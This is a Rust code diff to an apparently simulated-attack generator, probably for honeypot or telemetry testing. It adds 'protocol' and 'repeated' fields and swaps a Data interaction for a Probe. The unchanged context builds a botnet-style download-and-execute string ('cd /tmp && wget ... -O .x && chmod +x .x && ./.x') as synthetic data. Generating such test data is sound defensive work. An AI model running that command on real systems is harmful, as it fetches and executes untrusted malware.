@@ -7,8 +7,7 @@ use std::{
 
 use fastrand::Rng;
 use skep_model::{
-    Direction, Encounter, Interaction, InteractionKind, LoginMethod, Timestamp, Transport,
-    ids::EventId,
+    Encounter, Interaction, InteractionKind, LoginMethod, Timestamp, Transport, ids::EventId,
 };
 use skep_protocol::{message::InstanceConfiguration, part::Part};
 
@@ -150,12 +149,18 @@ impl Attacks {
     fn command(&mut self) -> Vec<InteractionKind> {
         if self.random.u8(..6) > 0 {
             let line = self.one_of(&LINES).into();
-            return vec![InteractionKind::Command { line }];
+            return vec![InteractionKind::Command {
+                line,
+                protocol: false,
+            }];
         }
         let url = format!("http://{}/bins/x86_{}", self.address(), self.random.u8(..));
         let line = format!("cd /tmp && wget {url} -O .x && chmod +x .x && ./.x");
         vec![
-            InteractionKind::Command { line: line.into() },
+            InteractionKind::Command {
+                line: line.into(),
+                protocol: false,
+            },
             InteractionKind::Attribute {
                 name: InteractionKind::URL.to_owned(),
                 value: url.into(),
@@ -168,9 +173,12 @@ impl Attacks {
         let port = self.one_of(&PORTS);
         let mut session = self.open(target, port, at, vec![probe(port)]);
         if parts > 2 {
-            session.extend(vec![InteractionKind::Data {
-                direction: Direction::In,
-                bytes: self.one_of(&PAYLOADS).into(),
+            session.extend(vec![InteractionKind::Probe {
+                port,
+                transport: Transport::Tcp,
+                flags: None,
+                payload: self.one_of(&PAYLOADS).into(),
+                repeated: true,
             }]);
         }
         session.end()
@@ -244,6 +252,7 @@ fn probe(port: u16) -> InteractionKind {
         transport: Transport::Tcp,
         flags: None,
         payload: Vec::new().into(),
+        repeated: false,
     }
 }
 
